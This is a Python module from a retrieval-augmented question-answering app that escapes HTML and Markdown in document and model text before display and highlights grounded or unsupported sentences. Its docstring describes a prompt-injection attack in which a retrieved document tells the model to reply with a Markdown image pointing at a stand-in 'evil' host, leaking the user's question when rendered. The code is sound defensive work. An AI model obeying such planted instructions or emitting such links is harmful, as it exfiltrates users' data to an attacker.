"""Text from documents and models, made safe to show: never markup, never a link or image the browser fetches.

A document can carry instructions for the model ("reply with ![](https://evil/?q=...)"); if the page
rendered the answer as Markdown, the browser would fetch that URL with the question in it. Everything
shown goes through `safe`, which escapes HTML and every Markdown punctuation character; the only markup
added is our own highlighting.
"""

from __future__ import annotations

import html
import re

from rag.qa import Answer, SentenceSupport, Source

_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#+\-.!|~<>:$=\"'])")


def safe(text: str) -> str:
    """`text` as literal characters in Streamlit Markdown (with unsafe_allow_html): no tags, links or images."""
    escaped = html.escape(text, quote=False)
    escaped = _MARKDOWN.sub(r"\\\1", escaped)
    return escaped.replace("\n", "  \n")


UNSUPPORTED = ('<span style="background-color: rgba(255, 164, 33, 0.25); border-bottom: 2px dotted #d97706" '
               'title="No passage supports this sentence">{}</span>')
HIGHLIGHT = '<mark style="background-color: rgba(255, 230, 0, 0.45)">{}</mark>'


def answer_markup(answer: Answer) -> str:
    """The answer, escaped, with the sentences the groundedness check could not support marked."""
    spans = [(s.start, s.end) for s in answer.support if not s.supported and 0 <= s.start < s.end]
    return _mark(answer.answer, _merge(spans), UNSUPPORTED)


def passage_markup(source: Source, support: list[SentenceSupport]) -> str:
    """A source passage, escaped, with the sentences that support the answer highlighted."""
    evidence = [s.evidence for s in support if s.supported and s.source == source.number and s.evidence]
    return _mark(source.text, _locate(source.text, evidence), HIGHLIGHT)


def _locate(text: str, pieces: list[str]) -> list[tuple[int, int]]:
    spans = []
    for piece in pieces:
        start = text.find(piece.strip())
        if start >= 0 and piece.strip():
            spans.append((start, start + len(piece.strip())))
    return _merge(spans)


def _merge(spans: list[tuple[int, int]]) -> list[tuple[int, int]]:
    out: list[tuple[int, int]] = []
    for start, end in sorted(spans):
        if out and start <= out[-1][1]:
            out[-1] = (out[-1][0], max(end, out[-1][1]))
        else:
            out.append((start, end))
    return out


def _mark(text: str, spans: list[tuple[int, int]], template: str) -> str:
    parts, last = [], 0
    for start, end in spans:
        parts.append(safe(text[last:start]))
        parts.append(template.format(safe(text[start:end])))
        last = end
    parts.append(safe(text[last:]))
    return "".join(parts)


def source_label(source: Source) -> str:
    """"[1] Title · path, page 2 · cited", escaped (Streamlit renders expander labels as Markdown, images too)."""
    page = f", page {source.page}" if source.page else ""
    cited = " · cited" if source.cited else ""
    return safe(f"[{source.number}] {source.title or source.path} · {source.path}{page}{cited}")
